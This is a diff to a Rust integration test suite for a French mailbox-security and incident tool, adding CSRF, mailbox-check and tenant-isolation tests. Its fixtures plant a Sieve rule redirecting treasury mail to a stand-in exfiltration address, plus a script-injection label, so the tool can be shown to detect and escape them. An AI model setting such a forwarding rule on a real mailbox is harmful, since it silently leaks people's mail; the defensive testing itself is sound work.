@@ -230,7 +230,7 @@ fn now() -> i64 {
     chrono::Utc::now().timestamp()
 }
 
-const PASSWORD: &str = "tulipe-canapé-orbite-mardi";
+const PASSWORD: &str = "girafe-pluie-cartable-jeudi";
 
 /// Setup wizard → TOTP enrolment. Returns the browser (signed in), the TOTP secret and the
 /// recovery codes.
@@ -298,6 +298,54 @@ async fn set_up(env: &Env) -> (Browser, String, Vec<String>) {
         .collect();
     assert_eq!(codes.len(), 10, "{}", done.body);
     (b, secret, codes)
+}
+
+/// A second organisation with its own administrator, signed in through the API: the
+/// browser and its anti-forgery token.
+async fn other_org_admin(env: &Env) -> (Browser, String) {
+    let other_org = env
+        .store
+        .create_organisation("Mairie de Villeneuve")
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    let hash = vigie_server::auth::password::hash(PASSWORD).unwrap_or_else(|e| panic!("{e}"));
+    let other_user = env
+        .store
+        .create_user(&NewUser {
+            email: "mairie@villeneuve.fr".into(),
+            display_name: "Paul Durand".into(),
+            password_hash: hash,
+        })
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    env.store
+        .set_membership(&other_org.id, &other_user.id, Role::Administrateur)
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    let secret = [9u8; 20];
+    env.store
+        .set_totp(&other_user.id, &server_key(env).seal("totp", &secret), 0)
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    let base32 = "BEEQSCIJBEEQSCIJBEEQSCIJBEEQSCIJ"; // [9; 20] in base32
+    let mut intruder = Browser::new(env);
+    let session = intruder
+        .post_json(
+            "/api/session",
+            None,
+            serde_json::json!({"email": "mairie@villeneuve.fr", "mot_de_passe": PASSWORD, "code": oathtool(base32, now())}),
+        )
+        .await;
+    assert_eq!(session.status, 200, "{}", session.body);
+    let token: serde_json::Value = serde_json::from_str(&session.body).unwrap_or_default();
+    let token = token["csrf"].as_str().unwrap_or_default().to_string();
+    (intruder, token)
+}
+
+/// The running server's key (from its key file).
+fn server_key(env: &Env) -> vigie_server::keys::ServerKey {
+    vigie_server::keys::ServerKey::load_or_create(&env._dir.path().join("cle-serveur.key"))
+        .unwrap_or_else(|e| panic!("{e}"))
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -536,7 +584,7 @@ async fn csrf_origin_and_headers(env: &Env) {
     assert!(csp.contains("frame-ancestors 'none'"));
     assert_eq!(home.header("x-frame-options"), "DENY");
     assert_eq!(home.header("x-content-type-options"), "nosniff");
-    assert_eq!(home.header("referrer-policy"), "no-referrer");
+    assert_eq!(home.header("referrer-policy"), "same-origin");
     assert_eq!(home.header("cache-control"), "no-store");
     // Every state-changing route refuses a request without the token, and one from another
     // site even with it.
@@ -561,6 +609,35 @@ async fn csrf_origin_and_headers(env: &Env) {
     }
     // The session still works (nothing above was accepted).
     assert_eq!(b.get("/").await.status, 200);
+    // `Origin: null` (a browser hiding the origin) is this site's only when the browser's
+    // Sec-Fetch-Site says so.
+    b.origin = Some("null".into());
+    let url = format!("{}/incidents/nouveau", b.base);
+    let form = [
+        ("csrf", csrf.as_str()),
+        ("playbook", "faux-support"),
+        ("titre", "Fenêtre d'alerte"),
+        ("constate_le", "2026-11-02T10:00"),
+    ];
+    let cross = b
+        .send(
+            b.http
+                .post(&url)
+                .header("sec-fetch-site", "cross-site")
+                .form(&form),
+        )
+        .await;
+    assert_eq!(cross.status, 403, "{}", cross.body);
+    let same = b
+        .send(
+            b.http
+                .post(&url)
+                .header("sec-fetch-site", "same-origin")
+                .form(&form),
+        )
+        .await;
+    assert_eq!(same.status, 303, "{}", same.body);
+    b.origin = Some(b.base.clone());
     // API: sign in by JSON, then X-CSRF-Token is required.
     let mut api = Browser::new(env);
     let session = api
@@ -699,45 +776,7 @@ async fn incidents_and_isolation(env: &Env) {
     assert_eq!(zip.header("content-type"), "application/zip");
 
     // Another organisation, with its own administrator, sees none of it.
-    let other_org = env
-        .store
-        .create_organisation("Mairie de Villeneuve")
-        .await
-        .unwrap_or_else(|e| panic!("{e}"));
-    let hash = vigie_server::auth::password::hash(PASSWORD).unwrap_or_else(|e| panic!("{e}"));
-    let other_user = env
-        .store
-        .create_user(&NewUser {
-            email: "mairie@villeneuve.fr".into(),
-            display_name: "Paul Durand".into(),
-            password_hash: hash,
-        })
-        .await
-        .unwrap_or_else(|e| panic!("{e}"));
-    env.store
-        .set_membership(&other_org.id, &other_user.id, Role::Administrateur)
-        .await
-        .unwrap_or_else(|e| panic!("{e}"));
-    let secret = [9u8; 20];
-    let key =
-        vigie_server::keys::ServerKey::load_or_create(&env._dir.path().join("cle-serveur.key"))
-            .unwrap_or_else(|e| panic!("{e}"));
-    env.store
-        .set_totp(&other_user.id, &key.seal("totp", &secret), 0)
-        .await
-        .unwrap_or_else(|e| panic!("{e}"));
-    let base32 = "BEEQSCIJBEEQSCIJBEEQSCIJBEEQSCIJ"; // [9; 20] in base32
-    let mut intruder = Browser::new(env);
-    let session = intruder
-        .post_json(
-            "/api/session",
-            None,
-            serde_json::json!({"email": "mairie@villeneuve.fr", "mot_de_passe": PASSWORD, "code": oathtool(base32, now())}),
-        )
-        .await;
-    assert_eq!(session.status, 200, "{}", session.body);
-    let token: serde_json::Value = serde_json::from_str(&session.body).unwrap_or_default();
-    let token = token["csrf"].as_str().unwrap_or_default().to_string();
+    let (mut intruder, token) = other_org_admin(env).await;
     for path in [
         format!("/incidents/{id}"),
         format!("/incidents/{id}/documents/cnil"),
@@ -762,6 +801,481 @@ async fn incidents_and_isolation(env: &Env) {
     assert_eq!(step.status, 404, "{}", step.body);
     let journal = intruder.get("/api/journal-securite").await;
     assert!(!journal.body.contains("Claire Martin"), "{}", journal.body);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Mailboxes: a real Dovecot with a forwarding rule, checked by the server's background worker.
+
+const MAILBOX_LABEL: &str = "Secrétariat de Saint-Exemple <script>x</script>";
+const EXFILTRATION: &str = "pirate@exfiltration.example.net";
+
+/// A Dovecot whose mailbox forwards the treasury's mail outside, and holds a bank detail.
+async fn compromised_dovecot() -> vigie_testkit::Dovecot {
+    tokio::task::spawn_blocking(|| {
+        let dovecot = vigie_testkit::Dovecot::start().unwrap_or_else(|e| panic!("{e}"));
+        dovecot
+            .put_sieve_script(
+                dovecot.user(),
+                "regles",
+                &format!(
+                    "require [\"fileinto\"];\r\nif header :contains \"from\" \"tresorerie\" {{\r\n  \
+                     redirect \"{EXFILTRATION}\";\r\n}}\r\n"
+                ),
+                true,
+            )
+            .unwrap_or_else(|e| panic!("{e}"));
+        dovecot
+            .append(
+                "INBOX",
+                b"From: tresorerie@dgfip.example.fr\r\nTo: secretariat@mairie-exemple.fr\r\n\
+                  Subject: Coordonnees bancaires\r\nDate: Mon, 2 Mar 2026 09:00:00 +0100\r\n\
+                  Message-ID: <rib-1@dgfip.example.fr>\r\n\r\n\
+                  Voici le RIB : IBAN FR76 3000 6000 0112 3456 7890 189\r\n",
+                &[],
+            )
+            .unwrap_or_else(|e| panic!("{e}"));
+        dovecot
+    })
+    .await
+    .unwrap_or_else(|e| panic!("{e}"))
+}
+
+/// Adds the Dovecot mailbox through the form; returns its page path.
+async fn add_mailbox(b: &mut Browser, dovecot: &vigie_testkit::Dovecot) -> String {
+    let form = b.get("/messagerie/ajouter").await;
+    assert_eq!(form.status, 200, "{}", form.body);
+    let csrf = form.field("csrf");
+    let ca = std::fs::read_to_string(dovecot.ca_cert_path()).unwrap_or_else(|e| panic!("{e}"));
+    let added = b
+        .post(
+            "/messagerie/ajouter",
+            &[
+                ("csrf", &csrf),
+                ("libelle", MAILBOX_LABEL),
+                ("identifiant", dovecot.user()),
+                ("mot_de_passe", dovecot.password()),
+                ("serveur", dovecot.host()),
+                ("port", &dovecot.imaps_port().to_string()),
+                ("securite", "tls"),
+                ("port_sieve", &dovecot.sieve_port().to_string()),
+                ("autorite_pem", &ca),
+                ("conservation_annees", "2"),
+            ],
+        )
+        .await;
+    assert_eq!(added.status, 303, "{}", added.body);
+    let location = added.location().to_string();
+    assert!(location.starts_with("/messagerie/"), "{location}");
+    location
+}
+
+/// Reloads the mailbox page until its check is over (the background worker runs it).
+async fn wait_for_check(b: &mut Browser, path: &str) -> Page {
+    for _ in 0..120 {
+        let page = b.get(path).await;
+        assert_eq!(page.status, 200, "{}", page.body);
+        if !page.body.contains("Contrôle en cours") {
+            return page;
+        }
+        assert!(
+            page.body.contains("http-equiv=\"refresh\""),
+            "a running check reloads the page"
+        );
+        tokio::time::sleep(std::time::Duration::from_millis(250)).await;
+    }
+    panic!("the check did not finish within 30 s");
+}
+
+async fn mailbox_checks(env: &Env) {
+    let dovecot = compromised_dovecot().await;
+    let flags_before = dovecot
+        .message_flags_snapshot(dovecot.user())
+        .unwrap_or_else(|e| panic!("{e}"));
+    let (mut b, _secret, _codes) = set_up(env).await;
+    let dashboard = b.get("/").await;
+    assert!(dashboard.shows("Aucune boîte aux lettres n'est encore suivie"));
+
+    // Bad input: a message per field, nothing saved, the password not sent back.
+    let form = b.get("/messagerie/ajouter").await;
+    let csrf = form.field("csrf");
+    let bad = b
+        .post(
+            "/messagerie/ajouter",
+            &[
+                ("csrf", &csrf),
+                ("libelle", ""),
+                ("identifiant", dovecot.user()),
+                ("mot_de_passe", "Secret-A-Ne-Pas-Renvoyer"),
+                ("serveur", ""),
+                ("port", "quatre-vingt"),
+                ("securite", "tls"),
+                ("autorite_pem", "pas un certificat"),
+                ("conservation_annees", "0"),
+            ],
+        )
+        .await;
+    assert_eq!(bad.status, 422);
+    for message in [
+        "Donnez un nom à cette boîte",
+        "Indiquez le serveur IMAP",
+        "Le port est un nombre",
+        "Collez un certificat au format PEM",
+        "La durée de conservation est un nombre",
+    ] {
+        assert!(bad.shows(message), "{message}: {}", bad.body);
+    }
+    assert!(!bad.body.contains("Secret-A-Ne-Pas-Renvoyer"));
+    let org = env
+        .store
+        .memberships(
+            &env.store
+                .user_by_email("secretariat@mairie-saint-exemple.fr")
+                .await
+                .unwrap_or_else(|e| panic!("{e}"))
+                .unwrap_or_else(|| panic!("user"))
+                .id,
+        )
+        .await
+        .unwrap_or_else(|e| panic!("{e}"))[0]
+        .org_id
+        .clone();
+    assert!(
+        env.store
+            .mailboxes(&org)
+            .await
+            .unwrap_or_default()
+            .is_empty()
+    );
+
+    let path = add_mailbox(&mut b, &dovecot).await;
+    let page = wait_for_check(&mut b, &path).await;
+    assert!(!page.body.contains("<script>x</script>"), "label escaped");
+    assert!(page.shows(MAILBOX_LABEL));
+    assert!(page.body.contains("sieve.redirect"), "{}", page.body);
+    assert!(page.shows(EXFILTRATION), "the target address is named");
+    assert!(page.body.contains("Pourquoi :") && page.body.contains("Que faire :"));
+    assert!(page.body.contains("exposure.summary"), "the scan ran");
+    assert!(!page.body.contains(dovecot.password()));
+    // The value found in mail is masked, never shown whole.
+    assert!(!page.body.contains("FR7630006000011234567890189"));
+
+    // The HTML report, sandboxed.
+    let report_path = format!(
+        "{path}/controles/{}/rapport",
+        page.between(&format!("href=\"{path}/controles/"), "/rapport\"")
+    );
+    let report = b.get(&report_path).await;
+    assert_eq!(report.status, 200, "{}", report.body);
+    assert!(report.header("content-type").starts_with("text/html"));
+    assert_eq!(
+        report.header("content-security-policy"),
+        vigie_server::security::REPORT_CSP
+    );
+    assert!(
+        report.body.contains("<html"),
+        "{}",
+        &report.body[..200.min(report.body.len())]
+    );
+    assert!(!report.body.contains("FR7630006000011234567890189"));
+
+    // Dashboard: open findings and the last check.
+    let dashboard = b.get("/").await;
+    assert!(dashboard.shows("1 boîte suivie"), "{}", dashboard.body);
+    assert!(dashboard.shows("Constats ouverts"));
+
+    // API: the list, a new check as a job, its progress.
+    // The session's anti-forgery token, as the pages carry it, also signs API calls.
+    let token = b.get("/compte").await.field("csrf");
+    let list = b.get("/api/messagerie").await;
+    assert_eq!(list.status, 200);
+    let json: serde_json::Value = serde_json::from_str(&list.body).unwrap_or_default();
+    let mailbox = &json["boites"][0];
+    let id = mailbox["id"].as_str().unwrap_or_default().to_string();
+    assert_eq!(path, format!("/messagerie/{id}"));
+    let findings = mailbox["dernier_controle"]["rapport"]["findings"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default();
+    assert!(
+        findings.iter().any(|f| f["id"] == "sieve.redirect"),
+        "{}",
+        list.body
+    );
+    assert!(!list.body.contains(dovecot.password()));
+    let queued = b
+        .post_json(
+            &format!("/api/messagerie/{id}/controles"),
+            Some(&token),
+            serde_json::json!({}),
+        )
+        .await;
+    assert_eq!(queued.status, 202, "{}", queued.body);
+    let job: serde_json::Value = serde_json::from_str(&queued.body).unwrap_or_default();
+    let job_id = job["id"].as_str().unwrap_or_default().to_string();
+    let mut state = String::new();
+    for _ in 0..120 {
+        let seen = b.get(&format!("/api/taches/{job_id}")).await;
+        assert_eq!(seen.status, 200, "{}", seen.body);
+        let v: serde_json::Value = serde_json::from_str(&seen.body).unwrap_or_default();
+        state = v["etat"].as_str().unwrap_or_default().to_string();
+        if state == "done" || state == "failed" {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(250)).await;
+    }
+    assert_eq!(state, "done");
+    let bad_api = b
+        .post_json(
+            "/api/messagerie",
+            Some(&token),
+            serde_json::json!({"libelle": "x", "identifiant": "", "serveur": "", "mot_de_passe": ""}),
+        )
+        .await;
+    assert_eq!(bad_api.status, 422, "{}", bad_api.body);
+    assert!(bad_api.body.contains("\"identifiant\""), "{}", bad_api.body);
+
+    // At rest: the password is sealed (the database alone does not give it), bound to the
+    // mailbox.
+    let record = env
+        .store
+        .mailbox(&org, &id)
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    assert!(!record.secret_sealed.contains(dovecot.password()));
+    let key = server_key(env);
+    assert_eq!(
+        key.open(&format!("mailbox:{id}"), &record.secret_sealed)
+            .unwrap_or_default(),
+        dovecot.password().as_bytes()
+    );
+    assert!(key.open("mailbox:autre", &record.secret_sealed).is_err());
+    for file in ["vigie.db", "vigie.db-wal"] {
+        if let Ok(bytes) = std::fs::read(env._dir.path().join(file)) {
+            let needle = dovecot.password().as_bytes();
+            assert!(
+                !bytes.windows(needle.len()).any(|w| w == needle),
+                "password in clear in {file}"
+            );
+        }
+    }
+
+    // Read-only: flags and counts unchanged after two checks.
+    let flags_after = dovecot
+        .message_flags_snapshot(dovecot.user())
+        .unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(flags_before, flags_after);
+
+    // Another organisation sees and changes nothing of it.
+    let (mut intruder, token) = other_org_admin(env).await;
+    for path in [
+        path.clone(),
+        report_path.clone(),
+        format!("/api/messagerie/{id}"),
+        format!("/api/taches/{job_id}"),
+    ] {
+        let page = intruder.get(&path).await;
+        assert_eq!(page.status, 404, "{path}: {}", page.body);
+        assert!(!page.shows(MAILBOX_LABEL), "{path}");
+    }
+    let list = intruder.get("/api/messagerie").await;
+    assert!(!list.body.contains(&id));
+    let run = intruder
+        .post_json(
+            &format!("/api/messagerie/{id}/controles"),
+            Some(&token),
+            serde_json::json!({}),
+        )
+        .await;
+    assert_eq!(run.status, 404);
+
+    // Deleting: the mailbox and its results go.
+    let page = b.get(&path).await;
+    let csrf = page.field("csrf");
+    let deleted = b
+        .post(&format!("{path}/supprimer"), &[("csrf", &csrf)])
+        .await;
+    assert_eq!(deleted.status, 303, "{}", deleted.body);
+    assert_eq!(b.get(&path).await.status, 404);
+    assert!(
+        env.store
+            .mailboxes(&org)
+            .await
+            .unwrap_or_default()
+            .is_empty()
+    );
+}
+
+/// Every route of `ROUTES` that is not public, called by another organisation's administrator
+/// with the ids of the first organisation's objects: nothing is read (404, no trace of it in
+/// the body) and nothing changes.
+async fn every_route_is_tenant_scoped(env: &Env) {
+    let dovecot = compromised_dovecot().await;
+    let (mut b, _secret, _codes) = set_up(env).await;
+    let mailbox_path = add_mailbox(&mut b, &dovecot).await;
+    let page = wait_for_check(&mut b, &mailbox_path).await;
+    let mailbox_id = mailbox_path.trim_start_matches("/messagerie/").to_string();
+    let check_id = page.between(&format!("href=\"{mailbox_path}/controles/"), "/rapport\"");
+    // The session's anti-forgery token, as the pages carry it, also signs API calls.
+    let token = b.get("/compte").await.field("csrf");
+    let declared = b
+        .post_json(
+            "/api/incidents",
+            Some(&token),
+            serde_json::json!({"playbook": "compromission-messagerie", "titre": "Messages disparus de la mairie", "constate_le": "2026-11-28T09:15:00+01:00"}),
+        )
+        .await;
+    assert_eq!(declared.status, 201, "{}", declared.body);
+    let incident: serde_json::Value = serde_json::from_str(&declared.body).unwrap_or_default();
+    let incident_id = incident["id"].as_str().unwrap_or_default().to_string();
+    let jobs = b.get(&format!("/api/messagerie/{mailbox_id}")).await;
+    assert_eq!(jobs.status, 200);
+    let org = env
+        .store
+        .memberships(
+            &env.store
+                .user_by_email("secretariat@mairie-saint-exemple.fr")
+                .await
+                .unwrap_or_else(|e| panic!("{e}"))
+                .unwrap_or_else(|| panic!("user"))
+                .id,
+        )
+        .await
+        .unwrap_or_else(|e| panic!("{e}"))[0]
+        .org_id
+        .clone();
+    let job_id = env
+        .store
+        .jobs(&org, Some(&mailbox_id), 1)
+        .await
+        .unwrap_or_else(|e| panic!("{e}"))[0]
+        .id
+        .clone();
+    let before = snapshot(env, &org, &incident_id).await;
+
+    let (mut intruder, token) = other_org_admin(env).await;
+    let markers = [
+        "Saint-Exemple",
+        "Claire Martin",
+        "Messages disparus de la mairie",
+        EXFILTRATION,
+    ];
+    // Signing out everywhere last: it ends the intruder's own session.
+    let mut routes: Vec<_> = ROUTES
+        .iter()
+        .filter(|(_, _, access)| *access != Access::Public)
+        .collect();
+    routes.sort_by_key(|(_, path, _)| path.contains("deconnexion"));
+    let mut checked = 0;
+    const MISSING: &str = "00000000-0000-4000-8000-000000000000";
+    for (method, pattern, _) in routes {
+        let fill = |id: &str, check: &str, job: &str, incident: &str| {
+            if pattern.starts_with("/api/taches/") {
+                pattern.replace("{id}", job)
+            } else if pattern.contains("/messagerie/") {
+                pattern.replace("{id}", id).replace("{check}", check)
+            } else {
+                pattern
+                    .replace("{id}", incident)
+                    .replace("{step}", "isoler")
+                    .replace("{kind}", "cnil")
+            }
+        };
+        let path = fill(&mailbox_id, &check_id, &job_id, &incident_id);
+        let page = call(&mut intruder, method, &path, &token).await;
+        if pattern.contains('{') {
+            assert_eq!(page.status, 404, "{method} {path}: {}", page.body);
+            // No oracle: the answer is the one for an id that exists nowhere.
+            let missing_path = fill(MISSING, MISSING, MISSING, MISSING);
+            let missing = call(&mut intruder, method, &missing_path, &token).await;
+            let anonymise = |body: &str| {
+                [&mailbox_id, &check_id, &job_id, &incident_id]
+                    .iter()
+                    .fold(body.to_owned(), |b, id| b.replace(id.as_str(), MISSING))
+            };
+            assert_eq!(
+                anonymise(&page.body),
+                missing.body,
+                "{method} {path} answers differently for an existing id"
+            );
+        } else {
+            assert!(
+                page.status < 500,
+                "{method} {path}: {} {}",
+                page.status,
+                page.body
+            );
+            for id in [&mailbox_id, &check_id, &job_id, &incident_id] {
+                assert!(
+                    !page.body.contains(id.as_str()),
+                    "{method} {path} shows {id}"
+                );
+            }
+        }
+        for marker in markers {
+            assert!(
+                !page.body.contains(marker),
+                "{method} {path} shows « {marker} »:\n{}",
+                page.body
+            );
+        }
+        checked += 1;
+    }
+    assert!(checked >= 30, "only {checked} routes checked");
+    assert_eq!(
+        snapshot(env, &org, &incident_id).await,
+        before,
+        "nothing changed"
+    );
+}
+
+/// Calls a route as a browser would: GET, a form with the page's token, or JSON with the
+/// session's token for the API.
+async fn call(b: &mut Browser, method: &str, path: &str, token: &str) -> Page {
+    match (method, path.starts_with("/api/")) {
+        ("GET", _) => b.get(path).await,
+        (_, true) => b.post_json(path, Some(token), serde_json::json!({})).await,
+        (_, false) => {
+            let account = b.get("/compte").await;
+            let csrf = if account.status == 200 {
+                account.field("csrf")
+            } else {
+                String::new()
+            };
+            if path.ends_with("/preuves") {
+                // An upload: multipart, the token in the query string.
+                let part = reqwest::multipart::Part::bytes(b"intrus".to_vec()).file_name("x.txt");
+                let form = reqwest::multipart::Form::new().part("fichiers", part);
+                let url = format!("{}{path}?csrf={}", b.base, csrf.replace('+', "%2B"));
+                let request = b.http.post(url).multipart(form);
+                return b.send(request).await;
+            }
+            b.post(path, &[("csrf", &csrf), ("note", "intrus")]).await
+        }
+    }
+}
+
+/// What the first organisation has, to compare before and after the intruder.
+async fn snapshot(env: &Env, org: &vigie_store::OrgId, incident_id: &str) -> String {
+    let store = &env.store;
+    let incident = store
+        .incident(org, incident_id)
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    let journal = store
+        .journal(org, &incident.id)
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    let mailboxes = store.mailboxes(org).await.unwrap_or_else(|e| panic!("{e}"));
+    let jobs = store
+        .jobs(org, None, 100)
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    format!(
+        "{incident:?}\n{}\n{:?}\n{:?}",
+        journal.len(),
+        mailboxes.iter().map(|m| &m.id).collect::<Vec<_>>(),
+        jobs.iter().map(|j| (&j.id, j.status)).collect::<Vec<_>>()
+    )
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -797,4 +1311,6 @@ on_both_backends!(
     csrf_origin_and_headers,
     unauthenticated_routes,
     incidents_and_isolation,
+    mailbox_checks,
+    every_route_is_tenant_scoped,
 );
